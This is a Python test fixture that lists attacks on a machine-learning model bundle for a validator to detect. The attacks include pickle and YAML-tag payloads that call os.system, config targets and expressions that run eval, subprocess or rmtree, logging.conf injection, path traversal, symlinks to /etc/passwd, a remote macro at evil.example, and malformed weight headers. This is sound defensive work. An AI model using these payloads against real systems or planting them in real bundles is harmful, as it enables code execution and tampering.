"""Attacks on a bundle: each is a small change of a real one. CANARY stands for a file that must not come into being."""

import json
import os
import pickle
import shutil
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from diffzoo.facts import sha256
from diffzoo.zoo.bundle import CHECKOUT

INFERENCE = "configs/inference.yaml"
HANDLER = "diffzoo.training.handlers.LossLog"


def safetensors(tensors: dict[str, tuple[str, list[int], list[int]]], data: bytes) -> bytes:
    """The bytes of a safetensors file with any header: name -> (dtype, shape, offsets)."""
    told = {name: {"dtype": d, "shape": s, "data_offsets": o} for name, (d, s, o) in tensors.items()}
    header = json.dumps(told).encode()
    return len(header).to_bytes(8, "little") + header + data


GOOD_WEIGHTS = safetensors({"a": ("F16", [2, 2], [0, 8]), "b": ("F32", [1], [8, 12])}, bytes(12))


def small_bundle(root: Path, name: str = "score_mri") -> Path:
    """A copy of a shipped bundle with the weights of a tiny network, which metadata.json names."""
    (root / "models").mkdir(parents=True)
    for part in ("configs", "docs", "LICENSE"):
        source = CHECKOUT / name / part
        (shutil.copytree if source.is_dir() else shutil.copy)(source, root / part)
    (root / "models" / "model.safetensors").write_bytes(GOOD_WEIGHTS)
    tell_weights(root)
    return root


def tell_weights(root: Path) -> None:
    """Makes metadata.json name the weights that are there."""
    path = root / "configs" / "metadata.json"
    told = json.loads(path.read_text()) | {"weights_sha256": sha256(root / "models" / "model.safetensors")}
    path.write_text(json.dumps(told))


@dataclass(frozen=True)
class Attack:
    """rule and file: what a finding must tell of it; apply(root, canary) changes the bundle."""

    rule: str
    file: str
    apply: Callable[[Path, Path], None]


def config(rule: str, text: str, file: str = INFERENCE) -> Attack:
    """More text at the end of a config."""

    def apply(root: Path, canary: Path) -> None:
        with (root / file).open("a") as config:
            config.write("\n" + text.replace("CANARY", str(canary)).replace("HANDLER", HANDLER) + "\n")

    return Attack(rule, file, apply)


def swapped(rule: str, old: str, new: str, file: str = INFERENCE) -> Attack:
    """A piece of a file replaced by another."""

    def apply(root: Path, canary: Path) -> None:
        text = (root / file).read_text()
        (root / file).write_text(text.replace(old, new.replace("CANARY", str(canary)), 1))
        if old not in text:
            raise ValueError(f"{file} does not hold {old!r}")

    return Attack(rule, file, apply)


def file(rule: str, path: str, data: bytes) -> Attack:
    """A file more, or another in place of one."""

    def apply(root: Path, canary: Path) -> None:
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_bytes(data.replace(b"CANARY", str(canary).encode()))
        if path == "models/model.safetensors":
            tell_weights(root)

    return Attack(rule, path, apply)


def made(rule: str, path: str, make: Callable[[Path, Path], None]) -> Attack:
    """Something at a path that is no plain file: make(path, canary)."""

    def apply(root: Path, canary: Path) -> None:
        (root / path).unlink(missing_ok=True)
        make(root / path, canary)

    return Attack(rule, path, apply)


class _Touch:
    def __init__(self, canary: str) -> None:
        self.canary = canary

    def __reduce__(self):
        return os.system, (f"touch {self.canary}",)


def pickled(path: Path, canary: Path) -> None:
    """A model.pt as torch.save makes it, whose pickle calls os.system."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("model/data.pkl", pickle.dumps(_Touch(str(canary)), protocol=2))


def crowded(root: Path, canary: Path) -> None:
    """Some hundred small files."""
    for i in range(300):
        (root / "docs" / f"{i}.txt").write_text("x")


def sparse(path: Path, canary: Path) -> None:
    """A file of 8 GiB that takes no room."""
    with path.open("wb") as handle:
        handle.truncate(8 << 30)


PNG = b"\x89PNG\r\n\x1a\n" + b"".join(
    struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body)) for kind, body in [(b"IEND", b"")]
)
BOMB = "a: &a [x, x]\n" + "".join(f"{b}: &{b} [*{a}, *{a}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True))
LOG, WEIGHTS = "configs/logging.conf", "models/model.safetensors"
BREAKING_KEY = 'x" and open("CANARY", "w") and "'  # pasted by MONAI into the quotes of an expression below it
TOUCH = "__import__('os').system('touch CANARY')"

ATTACKS: dict[str, Attack] = {
    # targets
    "os.system": config("target", "evil: {_target_: os.system, command: touch CANARY}"),
    "subprocess": config("target", "evil: {_target_: subprocess.run, args: [touch, CANARY]}"),
    "bare eval": config("target", f'evil: {{_target_: eval, source: "{TOUCH}"}}'),
    "builtins.exec": config("target", "evil: {_target_: builtins.exec}"),
    "empty parts": config("target", "evil: {_target_: .os..system, command: touch CANARY}"),
    "shutil.rmtree": config("target", "evil: {_target_: shutil.rmtree}"),
    "functools.partial": config("target", "evil: {_target_: functools.partial}"),
    "operator.methodcaller": config("target", "evil: {_target_: operator.methodcaller, name: system}"),
    "importlib": config("target", "evil: {_target_: importlib.import_module, name: evil}"),
    "pickle.loads": config("target", "evil: {_target_: pickle.loads}"),
    "torch.load": config("target", "evil: {_target_: torch.load, weights_only: false}"),
    "torch.hub": config("target", "evil: {_target_: torch.hub.load, repo_or_dir: evil}"),
    "torch.jit.load": config("target", "evil: {_target_: torch.jit.load}"),
    "numpy.load": config("target", "evil: {_target_: numpy.load, allow_pickle: true}"),
    "monai.bundle": config("target", "evil: {_target_: monai.bundle.run, config_file: other}"),
    "download": config("target", "evil: {_target_: monai.apps.download_and_extract, url: evil}"),
    "PersistentDataset": config("target", "evil: {_target_: monai.data.PersistentDataset, data: []}"),
    "CheckpointLoader": config("target", "evil: {_target_: monai.handlers.CheckpointLoader}"),
    "Lambda": config("target", "evil: {_target_: monai.transforms.Lambda, func: '@run'}"),
    "LoadImage that imports": config(
        "target", "evil: {_target_: monai.transforms.LoadImage, reader: os.system, command: touch CANARY}"
    ),
    "PatchInferer that imports": config("target", "evil: {_target_: monai.inferers.PatchInferer, merger_cls: os.system}"),
    "pretrained": config("target", "evil: {_target_: monai.networks.nets.DenseNet121, pretrained: true}"),
    "module of an allowed one": config("target", "evil: {_target_: monai.transforms.compose.os.system, command: touch CANARY}"),
    "module of diffzoo": config("target", "evil: {_target_: diffzoo.training.handlers.os.system, command: touch CANARY}"),
    "numpy of diffzoo": config("target", "evil: {_target_: diffzoo.imaging.io.files.np.load}"),
    "method of a class": config("target", "evil: {_target_: diffzoo.tasks.reconstruction.report.Report._case}"),
    "private of diffzoo": config("target", "evil: {_target_: diffzoo.networks.unet._Block}"),
    "writer of diffzoo": config("target", "evil: {_target_: diffzoo.imaging.io.files.write_json, value: x}"),
    "writer by another door": config("target", "evil: {_target_: diffzoo.imaging.preview.write_bytes}"),
    "zoo of diffzoo": config("target", "evil: {_target_: diffzoo.zoo.work.run_cases}"),
    "load of diffzoo": config("target", "evil: {_target_: diffzoo.load, name: other}"),
    "dunder": config("target", "evil: {_target_: diffzoo.tasks.choose.__loader__.load_module}"),
    "short name": config("target", "evil: {_target_: Compose}"),
    "reference as target": config("target", "name: os.system\nevil: {_target_: '@name'}"),
    "expression as target": config("target", f'evil: {{_target_: "${TOUCH}"}}'),
    "macro as target": config("target", "evil: {_target_: '%name'}"),
    "nested target": config("target", "evil: {_target_: {_target_: os.system, command: touch CANARY}}"),
    "list target": config("target", "evil: {_target_: [os.system]}"),
    "deep inside": config("target", "evil: [[{a: {b: [{_target_: os.system, command: touch CANARY}]}}]]"),
    "disabled": config("target", "evil: {_target_: os.system, _disabled_: true}"),
    "patched in by an overlay": config("target", "network_def::_target_: os.system", "configs/published.yaml"),
    "patched in by the old sign": config("target", "network_def#_target_: os.system", "configs/published.yaml"),
    "merged by an overlay": config("target", "+network_def: {_target_: os.system}", "configs/published.yaml"),
    "in the training": config("target", "evil: {_target_: os.system, command: touch CANARY}", "configs/train.yaml"),
    "JSON twin": file("target", "configs/inference.json", b'{"evil": {"_target_": "os.system", "command": "touch CANARY"}}'),
    "unlooked-for config": file("target", "configs/extra.yml", b"evil: {_target_: os.system, command: touch CANARY}\n"),
    "metadata": swapped("key", "{", '{"evil": {"_target_": "os.system", "command": "touch CANARY"},', "configs/metadata.json"),
    # modes
    "debugger": config("mode", "evil: {_target_: torch.nn.Identity, _mode_: debug}"),
    "debugger by reference": config("mode", "evil: {_target_: torch.nn.Identity, _mode_: '@mode'}"),
    "breakpoint": config("key", "evil: {_target_: torch.nn.Identity, _debug_: true}"),
    "requires": config("mode", f'evil: {{_target_: torch.nn.Identity, _requires_: "${TOUCH}"}}'),
    "disabled by expression": config("mode", f'evil: {{_target_: torch.nn.Identity, _disabled_: "${TOUCH}"}}'),
    # expressions
    "call": config("expression", f'evil: "${TOUCH}"'),
    "import": config("expression", "evil: $import os"),
    "import from": config("expression", "evil: $from os import system"),
    "module of MONAI's globals": config("expression", "evil: $torch.hub.load('evil', 'evil')"),
    "method": config("expression", "evil: $@device.__class__.__mro__"),
    "bound method": config("expression", "evil: $@network.load_state_dict"),
    "lambda": config("expression", f'evil: "$lambda: {TOUCH}"'),
    "comprehension": config("expression", f'evil: "$[{TOUCH} for i in (1,)]"'),
    "f-string": config("expression", "evil: \"$f'{@run}'\""),
    "walrus": config("expression", "evil: $(x := 1)"),
    "subscript": config("expression", "evil: $@handlers[0]"),
    "own locals": config("expression", "evil: \"$__local_refs['x']\""),
    "format": config("expression", "evil: \"$'%c' % 47\""),
    "power": config("expression", "evil: $9**9**9**9"),
    "long": config("expression", f"evil: ${'1 + ' * 200}1"),
    "nested brackets": config("expression", f"evil: ${'[' * 40}{']' * 40}"),
    "quotes broken by a reference": config("expression", "evil: \"$'@or' + exec or '@or'\""),
    "quotes broken by a key": config("expression", f"x: 1\n'{BREAKING_KEY}': {{evil: '$\"@::seed\"'}}"),
    "escape": config("expression", "evil: \"$'\\\\x2f'\""),
    "in a list of initialize": config("expression", f'initialize: ["${TOUCH}"]'),
    "in metadata": swapped("expression", "{", '{"evil": "$import os",', "configs/metadata.json"),
    # macros and paths
    "macro of a file": config("macro", "evil: '%/etc/passwd.json'"),
    "macro of a parent": config("macro", "evil: '%../../other/configs/inference.yaml::network'"),
    "macro of an address": config("macro", "evil: '%http://evil.example/x.json'"),
    "macro made by a key": config("macro", "'/etc/passwd.json': {evil: '%::x'}"),
    "macro of everything": config("macro", "evil: '%'"),
    "macro bomb": Attack(
        "macro", "configs", config("", "m0: [x]\n" + "".join(f"m{i}: ['%m{i - 1}']\n" for i in range(1, 20))).apply
    ),
    "absolute output": swapped("path", "output_dir: out", "output_dir: /etc"),
    "absolute argument": config("path", "evil: {_target_: HANDLER, path: CANARY}"),
    "parent in an expression": config("path", "evil: {_target_: HANDLER, path: \"$@output_dir + '/../x'\"}"),
    "parent by pieces": config("expression", "evil: \"$@output_dir + '/.' + './x'\""),
    "file of the current folder": config("path", "evil: {_target_: HANDLER, path: Makefile}"),
    "file by an alias": config("path", "evil: {_target_: HANDLER, path: '@sampler'}"),
    "file by a call": config("path", "evil: {_target_: HANDLER, path: {_target_: diffzoo.tasks.choose.choose, among: {a: b}}}"),
    "hidden file": config("path", "evil: .bashrc"),
    "home": config("path", "evil: ~/x"),
    "address": config("path", "evil: https://evil.example/x"),
    "program of the current folder": config("path", "evil: setup.py"),
    "output of a case": swapped("path", "volumes: [recon,", "volumes: [x/../../evil, recon,"),
    "weights elsewhere": swapped("path", "weights: $@bundle_root + '/models/model.safetensors'", "weights: /tmp/x"),
    # the form of a config
    "key twice": config("config", "seed: 1"),
    "key twice in JSON": file("config", "configs/inference.json", b'{"a": 1, "a": {"_target_": "os.system"}}'),
    "key as number and text": config("config", "evil: {1: a, '1': b}"),
    "YAML tag": config("config", "evil: !!python/object/apply:os.system ['touch CANARY']"),
    "billion laughs": config("config", BOMB),
    "merge": config("config", "evil: {<<: {_target_: os.system}}"),
    "two documents": config("config", "---\nevil: 1"),
    "deep": config("config", f"evil: {'[' * 60}{']' * 60}"),
    "deep JSON": file("config", "configs/x.json", b'{"a":' * 20000 + b"1" + b"}" * 20000),
    "line end of another locale": Attack(
        "config", INFERENCE, lambda root, canary: (root / INFERENCE).write_bytes(b"# \xc3\x85 evil: 1\nseed: 0\n")
    ),
    "no mapping": file("config", "configs/x.yaml", b"- 1\n"),
    "level in a key": config("key", "evil: {'a::_target_': os.system}"),
    "strange key": config("key", "'evil key': 1"),
    "MONAI's metadata": config("key", "_meta_: {a: 1}"),
    # logging.conf
    "logging class": swapped("logging", "class=StreamHandler", f"class={TOUCH}", LOG),
    "logging arguments": swapped("logging", "args=(sys.stdout,)", f"args=({TOUCH},)", LOG),
    "logging file": swapped("logging", "class=StreamHandler", "class=FileHandler", LOG),
    "logging by interpolation": swapped("logging", "[loggers]", f"[DEFAULT]\nx={TOUCH}\n\n[loggers]", LOG),
    "logging keywords": swapped("logging", "level=INFO\nformatter", f"kwargs={TOUCH}\nformatter", LOG),
    "logging defaults": swapped("logging", "[formatter_line]", f"[formatter_line]\ndefaults={TOUCH}", LOG),
    "logging twice": swapped("logging", "args=", "args=(sys.stdout,)\nargs=", LOG),
    # weights
    "pickle": made("weights", "models/model.pt", pickled),
    "pickle as weights": file("weights", WEIGHTS, pickle.dumps(_Touch("CANARY"))),
    "pickle elsewhere": file("file", "models/other.pkl", pickle.dumps(1)),
    "legacy model.pt": file("weights", "models/model.pt", pickle.dumps(_Touch("CANARY"))),
    "header too long": file("weights", WEIGHTS, (2**62).to_bytes(8, "little") + b"{}"),
    "header no JSON": file("weights", WEIGHTS, (4).to_bytes(8, "little") + b"\x80\x04N."),
    "tensor twice": file("weights", WEIGHTS, (len(h := b'{"a":{},"a":{}}')).to_bytes(8, "little") + h),
    "overlap": file("weights", WEIGHTS, safetensors({"a": ("U8", [8], [0, 8]), "b": ("U8", [4], [4, 8])}, bytes(8))),
    "outside the file": file("weights", WEIGHTS, safetensors({"a": ("U8", [8], [0, 8])}, bytes(4))),
    "rest after tensors": file("weights", WEIGHTS, GOOD_WEIGHTS + b"PK\x03\x04"),
    "negative offset": file("weights", WEIGHTS, safetensors({"a": ("U8", [4], [-4, 0])}, b"")),
    "shape of another size": file("weights", WEIGHTS, safetensors({"a": ("F32", [2], [0, 4])}, bytes(4))),
    "other weights": Attack("weights", WEIGHTS, lambda root, _: (root / WEIGHTS).write_bytes(GOOD_WEIGHTS[:-1] + b"x")),
    # files
    "Python": file("file", "scripts/__init__.py", b"import os\n"),
    "Python among the configs": file("file", "configs/sitecustomize.py", b"open('CANARY', 'w')\n"),
    "shared object": file("file", "models/libevil.so", b"\x7fELF"),
    "compiled network": file("file", "models/model.ts", b"PK\x03\x04"),
    "archive": file("file", "docs/more.zip", b"PK\x03\x04"),
    "array": file("file", "docs/sample.npy", b"\x93NUMPY"),
    "program as text": file("file", "docs/install.txt", b"#!/bin/sh\ntouch CANARY\n"),
    "pickle as text": file("file", "docs/README.md", pickle.dumps(_Touch("CANARY"))),
    "zip behind a picture": file("file", "docs/preview.png", PNG + b"PK\x03\x04"),
    "no picture": file("file", "docs/preview.png", b"GIF89a"),
    "hidden": file("name", ".git", b"gitdir: elsewhere\n"),
    "control character": file("name", "docs/a\x1b[31m.md", b"x"),
    "device name": file("name", "docs/con.txt", b"x"),
    "unlike on Windows": file("name", "docs/a.", b"x"),
    "case": file("name", "docs/readme.md", b"x"),
    "other alphabet": file("name", "docs/re\u0430dme.md", b"x"),
    "link to a file": made("link", "docs/README.md", lambda path, canary: path.symlink_to("/etc/passwd")),
    "link to a folder": made("link", "docs/more", lambda path, canary: path.symlink_to("/etc")),
    "link to nowhere": made("link", "docs/README.md", lambda path, canary: path.symlink_to(canary)),
    "pipe": made("link", "docs/README.md", lambda path, canary: os.mkfifo(path)),
    "many files": Attack("size", "docs/", crowded),
    "huge weights": made("size", WEIGHTS, sparse),
    "huge config": file("size", "configs/x.yaml", b"a: 1\n" + b"#" * 2**20),
}
